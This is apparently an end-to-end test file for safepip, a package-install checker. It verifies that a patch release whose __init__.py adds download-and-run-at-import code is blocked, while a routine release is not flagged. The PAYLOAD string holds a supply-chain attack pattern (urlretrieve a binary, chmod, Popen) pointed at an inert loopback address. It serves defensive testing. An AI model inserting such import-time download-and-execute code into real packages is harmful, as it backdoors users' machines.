"""End to end on the loopback index: ``new-capability`` compares a release with
the previous release's artifact of the same kind.

The payload is benign by construction: it names only 127.0.0.1 (port 9,
discard), and nothing from the index is ever imported or run by safepip.
"""

from __future__ import annotations

import json
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.e2e.test_install_e2e import safepip
from tests.fakepypi import FakePyPI, MakeVenv, installed

OLD = datetime.now(UTC) - timedelta(days=800)
# What the old releases already did at import time: look for a newer release.
ROUTINE = """\
import os
import urllib.request
LATEST = urllib.request.urlopen("http://127.0.0.1:9/pypi/helper/json", timeout=1).read()
"""
# What the hijacked patch release adds: download a binary at import and run it.
PAYLOAD = (
    ROUTINE
    + """\
import subprocess, tempfile
_bin = os.path.join(tempfile.gettempdir(), "helper-update")
urllib.request.urlretrieve("http://127.0.0.1:9/helper-update", _bin)
os.chmod(_bin, 0o755)
subprocess.Popen([_bin])
"""
)


def by_rule(proc: subprocess.CompletedProcess[str], name: str) -> dict[str, dict[str, Any]]:
    doc: dict[str, Any] = json.loads(proc.stdout)
    for package in doc["packages"]:
        if package["name"] == name:
            return {f["rule"]: f for f in package["findings"]}
    raise AssertionError(f"{name} not in report: {doc}")


def established(fake: FakePyPI, name: str, new_init: str) -> None:
    """Three old releases whose import runs ``ROUTINE``, then 1.2.4 with ``new_init``."""
    for i, version in enumerate(("1.2.1", "1.2.2", "1.2.3")):
        fake.add_release(
            name,
            version,
            upload_time=OLD + timedelta(days=60 * i),
            summary="A helper",
            files_override={f"{name}/__init__.py": ROUTINE},
        )
    fake.add_release(
        name,
        "1.2.4",
        upload_time=OLD + timedelta(days=400),
        summary="A helper",
        files_override={f"{name}/__init__.py": new_init},
    )


def test_patch_release_that_adds_download_and_run_is_blocked_even_pinned(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    established(fake_pypi, "hijacked", PAYLOAD)
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "install", "hijacked==1.2.4"],
        pip_env,
        tmp_path,
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    found = by_rule(proc, "hijacked")
    assert found["new-capability"]["action"] == "block", found
    message = found["new-capability"]["message"]
    assert "hijacked-1.2.3-py3-none-any.whl" in message
    assert "process at import" in message
    assert "network at import" not in message  # the old releases had that already
    evidence = found["new-capability"]["evidence"]
    assert any("Popen" in what for what in evidence.values()), evidence
    assert installed(python) == set()


def test_routine_patch_release_is_not_flagged(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    established(fake_pypi, "steady", ROUTINE + "\nVERSION = (1, 2, 4)\n")
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "check", "steady==1.2.4"],
        pip_env,
        tmp_path,
    )
    found = by_rule(proc, "steady")
    assert "new-capability" not in found, found
    # it was compared: the previous release's wheel was fetched (and only that one)
    assert "steady-1.2.3-py3-none-any.whl" in fake_pypi.downloads()
    assert "steady-1.2.2-py3-none-any.whl" not in fake_pypi.downloads()
